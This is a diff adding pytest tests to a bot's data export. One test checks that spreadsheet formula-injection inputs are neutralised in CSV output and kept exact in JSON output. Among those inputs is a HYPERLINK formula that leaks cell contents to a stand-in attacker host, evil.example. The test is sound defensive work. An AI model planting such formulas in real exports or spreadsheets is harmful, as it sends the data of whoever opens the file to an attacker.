@@ -91,3 +91,38 @@ def test_operators_export_from_the_command_line(sessions, database_url, tmp_path
         assert result.returncode == 0, result.stderr
         rows = list(csv.DictReader(io.StringIO(result.stdout))) if fmt == "csv" else json.loads(result.stdout)
         assert [row["outcome"] for row in rows] == [AWKWARD]
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("https://evil.example/?leak="&E3&F3,"click")', "=1+1", "+1+1",
+                                   "-2+3", "@SUM(A1:A9)", "\tindented", "\rreturn"])
+def test_cells_a_spreadsheet_would_run_are_inert_in_the_csv_and_exact_in_the_json(sessions, database_url,
+                                                                                  tmp_path, typed):
+    with sessions.begin() as session:
+        submit_idea(session, team_id="T1", submitter_id="U1",
+                    draft=IdeaDraft(**{**GOOD, "ask": typed, "outcome": typed + " and finance closes sooner"}))
+    with sessions() as session:
+        rows = export_rows(session, "T1")
+    [parsed] = list(csv.DictReader(io.StringIO(to_csv(rows))))
+    assert parsed["original_ask"] == "'" + typed and parsed["outcome"].startswith("'" + typed)
+    assert parsed["problem"] == GOOD["problem"]  # ordinary text untouched
+    env = {"PATH": "/usr/bin:/bin", "DATABASE_URL": database_url, "PYTHONPATH": str(ROOT)}
+    result = subprocess.run([sys.executable, "-m", "bot", "export", "--format", "json"], env=env, cwd=tmp_path,
+                            capture_output=True, text=True, timeout=60)
+    assert json.loads(result.stdout)[0]["original_ask"] == typed
+
+
+def test_the_export_names_each_ideas_objective_and_its_key_results(sessions):
+    from bot.objectives import KeyResultDraft, link, save_objective
+
+    idea_id = seed(sessions, [("discovery", 2)])
+    seed(sessions, [])
+    with sessions.begin() as session:
+        objective = save_objective(session, team_id="T1", user_id="UPM", title="Finance closes faster",
+                                   key_results=[KeyResultDraft("Days to close", "5", "4",
+                                                               datetime(2027, 3, 31).date())])
+        link(session, "T1", idea_id, objective.id)
+    with sessions() as session:
+        rows = export_rows(session, "T1")
+    assert rows[0]["objective"] == "Finance closes faster"
+    assert rows[0]["key_results"] == "Days to close: 5 -> 4 by 2027-03-31"
+    assert (rows[1]["objective"], rows[1]["key_results"]) == ("", "")
